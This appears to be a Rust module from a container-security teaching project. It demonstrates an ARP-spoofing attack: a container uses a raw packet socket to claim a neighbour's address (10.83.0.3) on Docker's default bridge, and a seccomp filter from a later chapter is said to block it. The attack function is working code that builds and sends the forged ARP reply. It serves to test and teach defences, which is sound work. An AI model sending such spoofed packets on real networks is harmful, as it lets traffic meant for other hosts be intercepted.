//! A neighbour's address.
//!
//! Whoever sends raw packets on a network can answer for anyone there: "10.83.0.3? That is me." So he gets what is meant for the
//! others. A container's root may open such sockets by CAP_NET_RAW, which is among Docker's fourteen because ping used to need
//! it. That the other containers on the same bridge are within reach is a known weakness of Docker's default.
//!
//! Chapter 9 stops it: its filter refuses packet sockets (ping works without), unless the container has CAP_NET_ADMIN.

use crate::arena::{self, Arena};
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};

pub const ATTACK: Attack = Attack {
    name: "arp-spoof",
    title: "answers in the name of a neighbour on the bridge",
    won: "sent a packet in the name of another",
    harmless: "",
    end: End::Chapter(9),
    because: "a seccomp filter refuses sockets for raw packets",
    prepare: arena::nothing,
    attack,
    judge: Arena::was_let,
};

fn attack(_: &Inside) -> Result<String, Stopped> {
    let index = nix::net::if_::if_nametoindex("eth0").at("find eth0")?;
    // SAFETY: numbers are all that it takes.
    let socket = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    let socket = nix::errno::Errno::result(socket).at("socket(AF_PACKET)")?;
    // To all, from nobody: an answer that nobody has asked for, that 10.83.0.3 is here.
    let mut packet = vec![0xff; 6];
    packet.extend([2, 0, 0, 0, 0, 9, 8, 6, 0, 1, 8, 0, 6, 4, 0, 2]);
    packet.extend([2, 0, 0, 0, 0, 9, 10, 83, 0, 3, 2, 0, 0, 0, 0, 9, 10, 83, 0, 3]);
    // SAFETY: a struct of numbers, for each of which 0 is valid.
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = libc::AF_PACKET as u16;
    to.sll_ifindex = index as i32;
    to.sll_halen = 6;
    let size = size_of::<libc::sockaddr_ll>() as libc::socklen_t;
    // SAFETY: packet and address outlive the call, and have the sizes that are given.
    let sent = unsafe {
        libc::sendto(socket, packet.as_ptr().cast(), packet.len(), 0, (&raw const to).cast(), size)
    };
    nix::errno::Errno::result(sent).at("sendto(eth0)").map(|_| String::new())
}
